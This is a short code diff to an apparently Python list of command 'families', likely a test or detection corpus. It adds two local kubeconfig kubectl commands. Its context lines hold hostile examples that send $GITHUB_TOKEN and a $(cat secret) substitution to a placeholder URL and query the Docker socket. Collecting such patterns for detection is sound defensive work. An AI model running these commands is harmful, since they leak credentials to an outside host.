@@ -240,6 +240,8 @@ FAMILIES: dict[str, tuple[str, ...]] = {
         f"kubectl --server {_URL} --token $GITHUB_TOKEN get pods",
         f"npm view x --registry={_URL}/$(cat secret)",
         f"curl -s --unix-socket /var/run/docker.sock {_URL}/containers/json",
+        "kubectl --kubeconfig kube.yaml get pods",
+        "kubectl get pods --kubeconfig=kube.yaml",
     ),
 }
 
